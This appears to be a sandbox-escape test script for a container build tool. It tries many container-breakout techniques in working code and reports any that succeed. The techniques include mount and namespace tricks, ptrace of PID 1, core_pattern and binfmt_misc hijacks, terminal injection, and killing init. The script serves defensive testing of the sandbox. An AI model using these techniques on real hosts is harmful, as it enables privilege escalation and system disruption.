#!/usr/bin/python3
# ruff: noqa
# mypy: ignore-errors
"""Runs as a stage's script, with the standard library alone, and tries to get out of the sandbox.

It prints ``ESCAPE what`` for each attempt that reached something, and in the end ``TRIED`` with how many there were.
What it looks for has the name MARK, or the folders of a store; a stage's own folders have neither.
"""

import contextlib
import ctypes
import errno
import fcntl
import glob
import mmap
import os
import signal
import socket
import struct
import subprocess
import sys

MARK = "mark-of-" + "the-test"
STORE = {"keys", "layers", "outputs"}
MACHINE = os.uname().machine
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
NUMBERS = {
    "x86_64": {
        "mount": 165,
        "umount2": 166,
        "pivot_root": 155,
        "ptrace": 101,
        "keyctl": 250,
        "add_key": 248,
        "request_key": 249,
        "setns": 308,
        "unshare": 272,
        "clock_settime": 227,
        "settimeofday": 164,
        "adjtimex": 159,
        "reboot": 169,
        "init_module": 175,
        "kexec_load": 246,
        "bpf": 321,
        "swapon": 167,
        "perf_event_open": 298,
        "name_to_handle_at": 303,
        "open_by_handle_at": 304,
        "acct": 163,
        "process_vm_readv": 310,
        "quotactl": 179,
        "syslog": 103,
        "iopl": 172,
        "chroot": 161,
    },
    "aarch64": {
        "mount": 40,
        "umount2": 39,
        "pivot_root": 41,
        "ptrace": 117,
        "keyctl": 219,
        "add_key": 217,
        "request_key": 218,
        "setns": 268,
        "unshare": 97,
        "clock_settime": 112,
        "settimeofday": 170,
        "adjtimex": 171,
        "reboot": 142,
        "init_module": 105,
        "kexec_load": 104,
        "bpf": 280,
        "swapon": 224,
        "perf_event_open": 241,
        "name_to_handle_at": 264,
        "open_by_handle_at": 265,
        "acct": 89,
        "process_vm_readv": 270,
        "quotactl": 60,
        "syslog": 116,
        "iopl": -1,
        "chroot": 51,
    },
}[MACHINE]
OPEN_TREE, MOVE_MOUNT, FSOPEN, MOUNT_SETATTR, PIDFD_OPEN, PIDFD_GETFD = 428, 429, 430, 442, 434, 438
RDONLY, REMOUNT, BIND, REC, PRIVATE = 1, 32, 4096, 16384, 1 << 18
NEWNS, NEWUSER, NEWNET, NEWPID, NEWCGROUP = 0x20000, 0x10000000, 0x40000000, 0x20000000, 0x2000000
tried = 0


def say(text):
    os.write(1, (text + "\n").encode("utf-8", "replace"))


def escape(what):
    say(f"ESCAPE {what}")


def call(number, *arguments):
    """A raw system call; its result, or minus the errno."""
    given = [one if isinstance(one, (bytes, type(None), ctypes.Array)) else ctypes.c_long(one) for one in arguments]
    result = libc.syscall(ctypes.c_long(number), *given)
    return -ctypes.get_errno() if result == -1 else result


def named(name, *arguments):
    return call(NUMBERS[name], *arguments)


def compat():
    """The 32-bit system calls of an x86-64 kernel, made by a few bytes of machine code; None where there are none."""
    if MACHINE != "x86_64":
        return None
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    # push rbx; mov eax,edi; mov ebx,esi; xchg ecx,edx; mov edx,ecx(old)...: arguments are number, a, b, c, d, e
    code.write(bytes.fromhex("53 89f8 89f3 87d1 4489c6 4489cf cd80 4863c0 5b c3".replace(" ", "")))
    address = ctypes.addressof(ctypes.c_char.from_buffer(code))
    function = ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_uint32] * 6)(address)
    low = mmap.mmap(-1, 8192, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40)  # MAP_32BIT
    base = ctypes.addressof(ctypes.c_char.from_buffer(low))

    def text(*strings):
        found, place = [], 0
        for string in strings:
            low[place : place + len(string) + 1] = string + b"\0"
            found.append(base + place)
            place += len(string) + 1
        return found

    keep = (code, low)
    return function, text, keep


def mounts():
    with contextlib.suppress(OSError), open("/proc/self/mountinfo", "rb") as lines:
        return [line.split(b" ")[4].decode("unicode_escape").encode("latin-1") for line in lines]
    return [b"/", b"/usr", b"/etc", b"/proc", b"/sys", b"/dev", b"/run", b"/tmp"]


SKIPPED = {"proc", "sys", "usr", "lib", "lib64", "bin", "sbin", "share"}


def search(root, what):
    """Is there something of others below a folder."""
    count = 0
    for folder, below, names in os.walk(root):
        if MARK in names or MARK in below or STORE <= set(below):
            escape(f"{what}: found {folder}")
            return
        below[:] = [name for name in below if name not in SKIPPED]
        count += 1
        if count > 1500:
            return


def attempt(what):
    """Runs a function in a child of its own, and looks around from there afterwards."""

    def run(function):
        global tried
        tried += 1
        sys.stdout.flush()
        child = os.fork()
        if child == 0:
            with contextlib.suppress(BaseException):
                found = function()
                if isinstance(found, str):
                    escape(f"{what}: {found}")
            with contextlib.suppress(BaseException):
                look(what)
            os._exit(0)
        os.waitpid(child, 0)
        return function

    return run


def look(what):
    search("/", what)
    with contextlib.suppress(OSError):
        os.close(os.open("/usr/made-by-an-attack", os.O_CREAT | os.O_WRONLY))
        if OUTSIDE:
            escape(f"{what}: wrote into /usr")


OUTSIDE = os.path.isdir("/run/dib-ctr.build/mnt")


def own_processes():
    return {int(name) for name in os.listdir("/proc") if name.isdigit()}


def of_others(process):
    """Is it a process namespace's first one: init, or the waiter once /proc is taken away. All others are our own."""
    with contextlib.suppress(OSError), open(f"/proc/{process}/status") as lines:
        for line in lines:
            if line.startswith("NSpid:"):
                return line.split()[-1] == "1"
    return False


@attempt("the script as it starts")
def _():
    open_ones = {int(name) for name in os.listdir("/proc/self/fd")}
    more = [one for one in open_ones if one > 2 and os.path.exists(f"/proc/self/fd/{one}")]
    return f"open descriptors {[os.readlink(f'/proc/self/fd/{one}') for one in more]}" if more else None


@attempt("umount of everything")
def _():
    for _ in range(3):
        for place in reversed(mounts()):
            named("umount2", place, 2)


@attempt("umount by the compatible calls")
def _():
    if (found := compat()) is None:
        return
    function, text, _ = found
    for _ in range(3):
        for place in reversed(mounts()):
            function(52, *text(place), 2, 0, 0, 0)


@attempt("umount by x32's calls")
def _():
    for place in reversed(mounts()):
        call(0x40000000 | NUMBERS["umount2"], place, 2)


@attempt("remount for writing")
def _():
    for place in mounts():
        named("mount", None, place, None, REMOUNT | BIND, None)
        named("mount", None, place, None, REMOUNT, None)
        call(MOUNT_SETATTR, -100, place, 0x8000, struct.pack("QQQQ", 0, 1, 0, 0), 32)
        if (found := compat()) is not None:
            function, text, _ = found
            where, kind = text(place, b"none")
            function(21, kind, where, kind, REMOUNT | BIND, 0)
            function(MOUNT_SETATTR, 0xFFFFFF9C, where, 0x8000, *text(struct.pack("QQQQ", 0, 1, 0, 0))[:1])


@attempt("bind mounts of other roots")
def _():
    os.makedirs("/tmp/b", exist_ok=True)
    for link in glob.glob("/proc/*/root") + glob.glob("/proc/*/cwd") + glob.glob("/proc/*/fd/*"):
        if named("mount", link.encode(), b"/tmp/b", None, BIND | REC, None) == 0:
            search("/tmp/b", f"bind of {link}")
            named("umount2", b"/tmp/b", 2)


@attempt("paths through /proc, with all mounts over it taken away")
def _():
    for _ in range(2):
        for process in own_processes():
            for name in ("root", "cwd"):
                with contextlib.suppress(OSError):
                    os.listdir(f"/proc/{process}/{name}")
                    search(f"/proc/{process}/{name}", f"/proc/{process}/{name}")
            if of_others(process):
                for name in ("mem", "environ", "maps", "auxv"):
                    with contextlib.suppress(OSError), open(f"/proc/{process}/{name}", "rb") as file:
                        if name != "mem" and file.read(1):
                            escape(f"read /proc/{process}/{name}")
                with contextlib.suppress(OSError):
                    for number in os.listdir(f"/proc/{process}/fd"):
                        escape(f"descriptor {number} of {process} is {os.readlink(f'/proc/{process}/fd/{number}')}")
        named("umount2", b"/proc", 2)


@attempt("ptrace, process_vm_readv and pidfd_getfd of what is no child")
def _():
    for process in [1, *range(2, 40)]:
        if process in (os.getpid(), os.getppid()):
            continue
        buffer = ctypes.create_string_buffer(64)
        vector = struct.pack("QQ", ctypes.addressof(buffer), 64)
        if process == 1 and named("ptrace", 0x4206, process, 0, 0) == 0:
            return f"ptrace of {process}"
        if process == 1 and named("process_vm_readv", process, vector, 1, vector, 1, 0) not in (
            -errno.EPERM,
            -errno.ESRCH,
        ):
            return f"process_vm_readv of {process}"
        handle = call(PIDFD_OPEN, process, 0)
        if process == 1 and handle >= 0 and any(call(PIDFD_GETFD, handle, number, 0) >= 0 for number in range(12)):
            return f"a descriptor of {process}"
    return None


@attempt("other namespaces")
def _():
    own_ones = {os.readlink(path) for path in glob.glob("/proc/self/ns/*")}
    for _ in range(2):
        for path in glob.glob("/proc/[0-9]*/ns/*"):
            with contextlib.suppress(OSError):
                if os.readlink(path) in own_ones:
                    continue
                handle = os.open(path, os.O_RDONLY)
                if named("setns", handle, 0) == 0:
                    return f"entered {path}"
        # the owner and the parent of one's own: NS_GET_USERNS, NS_GET_PARENT
        for path in glob.glob("/proc/self/ns/*"):
            handle = os.open(path, os.O_RDONLY)
            for request in (0xB701, 0xB702):
                with contextlib.suppress(OSError):
                    other = fcntl.ioctl(handle, request)
                    if os.readlink(f"/proc/self/fd/{other}") not in own_ones and named("setns", other, 0) == 0:
                        return f"entered the parent of {path}"
        named("umount2", b"/proc", 2)
    return None


@attempt("chroot and back")
def _():
    os.makedirs("/tmp/c", exist_ok=True)
    here = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/c")
    os.fchdir(here)
    for _ in range(40):
        os.chdir("..")
    os.chroot(".")
    os.chdir("/")


@attempt("pivot_root into a folder of its own")
def _():
    os.makedirs("/tmp/p", exist_ok=True)
    named("unshare", NEWNS)
    named("mount", b"/tmp/p", b"/tmp/p", None, BIND, None)
    os.makedirs("/tmp/p/old", exist_ok=True)
    if named("pivot_root", b"/tmp/p", b"/tmp/p/old") == 0:
        os.chdir("/")
        search("/old", "the old root")
        named("umount2", b"/old", 2)


@attempt("a user namespace within, and umount there")
def _():
    user, group = os.getuid(), os.getgid()
    if named("unshare", NEWUSER | NEWNS | NEWPID | NEWNET | NEWCGROUP) != 0:
        return
    with contextlib.suppress(OSError):
        open("/proc/self/setgroups", "w").write("deny")
        open("/proc/self/uid_map", "w").write(f"0 {user} 1")
        open("/proc/self/gid_map", "w").write(f"0 {group} 1")
    for _ in range(3):
        for place in reversed(mounts()):
            named("umount2", place, 2)
            named("mount", None, place, None, REMOUNT | BIND, None)


@attempt("the newer mount calls")
def _():
    os.makedirs("/tmp/t", exist_ok=True)
    for place in [b"/proc/1/root", b"/proc/1/cwd", *mounts()]:
        for recursive in (0, 0x8000):
            tree = call(OPEN_TREE, -100, place, 1 | recursive)
            if tree >= 0:
                call(MOUNT_SETATTR, tree, b"", 0x1000 | recursive, struct.pack("QQQQ", 0, 1, 0, 0), 32)
                if call(MOVE_MOUNT, tree, b"", -100, b"/tmp/t", 4) == 0:
                    search("/tmp/t", f"open_tree of {place!r}")
                    with contextlib.suppress(OSError):
                        os.close(os.open("/tmp/t/made-by-an-attack", os.O_CREAT | os.O_WRONLY))
                    named("umount2", b"/tmp/t", 2)


@attempt("overlays over what is there")
def _():
    for name in ("u", "w", "m"):
        os.makedirs(f"/tmp/o/{name}", exist_ok=True)
    named("mount", b"t", b"/tmp/o", b"tmpfs", 0, None)
    for name in ("u", "w", "m"):
        os.makedirs(f"/tmp/o/{name}", exist_ok=True)
    for place in mounts():
        options = b"lowerdir=" + place + b",upperdir=/tmp/o/u,workdir=/tmp/o/w,userxattr"
        if named("mount", b"o", b"/tmp/o/m", b"overlay", 0, options) == 0:
            search("/tmp/o/m", f"overlay over {place!r}")
            named("umount2", b"/tmp/o/m", 2)


@attempt("file systems of disks, of networks and of programs")
def _():
    os.makedirs("/tmp/f", exist_ok=True)
    for kind in (
        b"ext4",
        b"xfs",
        b"btrfs",
        b"nfs",
        b"nfs4",
        b"cifs",
        b"9p",
        b"virtiofs",
        b"debugfs",
        b"tracefs",
        b"securityfs",
        b"configfs",
        b"bpf",
        b"fusectl",
        b"efivarfs",
        b"pstore",
        b"resctrl",
    ):
        for source in (b"/dev/sda", b"/dev/vda", b"/dev/loop0", b"none"):
            if named("mount", source, b"/tmp/f", kind, 0, b"fd=0,trans=virtio") == 0 and kind not in (b"bpf",):
                escape(f"mounted {kind.decode()} of {source.decode()}")
                named("umount2", b"/tmp/f", 2)


@attempt("device nodes")
def _():
    for number, (major, minor) in enumerate(
        ((8, 0), (254, 0), (253, 0), (259, 0), (7, 0), (1, 1), (10, 237), (10, 229))
    ):
        kind = 0o20000 if major in (1, 10) else 0o60000
        for folder in ("/tmp", "/dev", "/dev/shm", "/run/dib-ctr.build/mnt", "/"):
            path = f"{folder}/node-{number}"
            with contextlib.suppress(OSError):
                os.mknod(path, kind | 0o666, os.makedev(major, minor))
                mode = os.stat(path).st_mode
                os.close(os.open(path, os.O_RDONLY))
                if mode & 0o170000 == kind:
                    escape(f"opened device {major}:{minor} in {folder}")
            with contextlib.suppress(OSError):
                os.unlink(path)
    for name in ("loop-control", "loop0", "fuse", "kvm", "mem", "kmsg", "net/tun", "vhost-net", "mapper/control"):
        if os.path.exists(f"/dev/{name}"):
            escape(f"there is /dev/{name}")


@attempt("handles of files")
def _():
    for place in mounts():
        handle = os.open(place, os.O_RDONLY)
        for inode in (2, 128, 256, 1):
            for kind, data in ((1, struct.pack("II", inode, 0)), (0x81, struct.pack("QI", inode, 0))):
                buffer = ctypes.create_string_buffer(struct.pack("Ii", len(data), kind) + data)
                found = named("open_by_handle_at", handle, buffer, os.O_RDONLY | os.O_DIRECTORY)
                if found >= 0:
                    search(f"/proc/self/fd/{found}/", f"a handle below {place!r}")
                    if os.fstat(found).st_dev == os.fstat(handle).st_dev and inode != os.fstat(found).st_ino:
                        escape(f"a handle below {place!r}")


@attempt("keys of the kernel")
def _():
    for what, result in (
        ("a session keyring", named("keyctl", 0, -3, 0, 0, 0)),
        ("the user's keyring", named("keyctl", 0, -4, 0, 0, 0)),
        ("a new key", named("add_key", b"user", b"attack", b"x", 1, -2)),
        ("a search", named("request_key", b"user", MARK.encode(), None, 0)),
    ):
        if result >= 0:
            escape(f"keyctl: {what}")
    with contextlib.suppress(OSError), open("/proc/keys") as keys:
        for line in keys:
            named("keyctl", 8, int(line.split()[0], 16), -3, 0, 0)
            if named("keyctl", 11, int(line.split()[0], 16), 0, 0, 0) >= 0:
                escape(f"read key {line.strip()}")


@attempt("clocks, modules, swap, restart, accounting")
def _():
    now = struct.pack("qq", 1, 0)
    for what, result in (
        ("clock_settime", named("clock_settime", 0, now)),
        ("settimeofday", named("settimeofday", now, None)),
        ("adjtimex", named("adjtimex", struct.pack("IqI", 1, 5, 0) + bytes(200))),
        ("reboot", named("reboot", -18751827, 672274793, 0, None)),  # Ctrl-Alt-Del off: no harm where it works
        ("init_module", named("init_module", None, 0, b"")),
        ("kexec", named("kexec_load", 0, 0, None, 0)),
        ("swapon", named("swapon", b"/etc/passwd", 0)),
        ("acct", named("acct", b"/tmp/acct")),
        ("quotactl", named("quotactl", 0x800002 << 8, b"/dev/sda", 0, None)),
        ("bpf", named("bpf", 5, struct.pack("II", 1, 0) + bytes(120), 128)),
        ("perf", named("perf_event_open", struct.pack("II", 1, 64) + bytes(112), -1, 0, -1, 0)),
        ("the kernel's log", named("syslog", 5, None, 0)),
    ):
        if result >= 0:
            escape(what)
    if (found := compat()) is not None:
        function, text, _ = found
        if function(79, *text(b"\1" * 8), 0, 0, 0, 0) >= 0 or function(264, 0, *text(b"\1" * 8), 0, 0, 0) >= 0:
            escape("a clock by the compatible calls")


OWN_SETTINGS = (
    "/proc/sys/net/",
    "/proc/sys/user/",
    "/proc/sys/fs/mqueue/",
    "/proc/sys/kernel/msg",
    "/proc/sys/kernel/sem",
    "/proc/sys/kernel/shm",
    "/proc/sys/kernel/auto_msgmni",
    "/proc/sys/kernel/domainname",
    "/proc/sys/kernel/hostname",
    "/proc/sys/kernel/keys",
    "/proc/sys/kernel/ns_last_pid",
    "/proc/sys/kernel/pid_max",
    "/proc/sys/fs/binfmt_misc",
    "/proc/sys/kernel/random/uuid",
    "/proc/sys/kernel/random/boot_id",
)


def writable(root, what, own_ones=()):
    count = 0
    for folder, below, names in os.walk(root):
        count += 1
        if count > 400:
            return
        below[:] = [name for name in below if not os.path.islink(f"{folder}/{name}")]
        for name in names:
            path = f"{folder}/{name}"
            if os.path.islink(path) or path.startswith(own_ones):
                continue
            with contextlib.suppress(OSError):
                os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
                escape(f"{what}: may write {path}")
                return


@attempt("settings of the kernel")
def _():
    writable("/proc/sys", "sysctl", OWN_SETTINGS)
    for name in ("sysrq-trigger", "kcore", "kmsg", "latency_stats", "mtrr", "timer_list"):
        with contextlib.suppress(OSError):
            os.close(os.open(f"/proc/{name}", os.O_WRONLY))
            escape(f"may write /proc/{name}")
    for line in ("kernel/core_pattern", "kernel/modprobe", "kernel/hotplug"):
        with contextlib.suppress(OSError), open(f"/proc/sys/{line}", "w") as file:
            file.write("|/tmp/attack")
            file.flush()
            escape(f"wrote {line}")


@attempt("/sys")
def _():
    named("mount", None, b"/sys", None, REMOUNT | BIND, None)
    for folder in ("/sys/kernel", "/sys/fs", "/sys/module", "/sys/power", "/sys/class/net", "/sys/block"):
        writable(folder, "sysfs")


@attempt("control groups")
def _():
    os.makedirs("/tmp/g", exist_ok=True)
    for flags in (0, NEWCGROUP):
        if flags:
            named("unshare", flags)
        for kind, options in ((b"cgroup2", None), (b"cgroup", b"memory"), (b"cgroup", b"none,name=attack")):
            if named("mount", b"c", b"/tmp/g", kind, 0, options) == 0:
                writable("/tmp/g", f"{kind.decode()}")
                named("umount2", b"/tmp/g", 2)


@attempt("an own binfmt_misc")
def _():
    os.makedirs("/tmp/bm", exist_ok=True)
    if named("mount", b"b", b"/tmp/bm", b"binfmt_misc", 0, None) == 0:
        with contextlib.suppress(OSError), open("/tmp/bm/register", "w") as file:
            file.write(":attack:M::#!::/bin/false:F")  # every script on the machine would fail from here on
    return


@attempt("abstract sockets of others")
def _():
    for name in ABSTRACT:
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            with socket.socket(socket.AF_UNIX, kind) as client, contextlib.suppress(OSError):
                client.connect(b"\0" + name.encode())
                escape(f"connected to the abstract socket {name}")


ABSTRACT = tuple(os.environ.get("DIB_ATTACK_SOCKETS", "").split())


@attempt("characters pushed into a terminal")
def _():
    for descriptor in (0, 1, 2):
        with contextlib.suppress(OSError):
            for number in (0x5412, 0x541C):
                fcntl.ioctl(descriptor, number, b"\2")
                escape("TIOCSTI or TIOCLINUX")


@attempt("signals to all")
def _():
    for number in (signal.SIGCONT, signal.SIGWINCH):
        with contextlib.suppress(OSError):
            os.kill(-1, number)
    with contextlib.suppress(OSError):
        os.kill(os.getppid(), 0)
    os.kill(1, signal.SIGKILL)


@attempt("a host name")
def _():
    libc.sethostname(b"attacked", 8)


look("in the end")
status = subprocess.run(["/bin/sh", "-c", "exit 0"]).returncode
say(f"TRIED {tried} {status}")
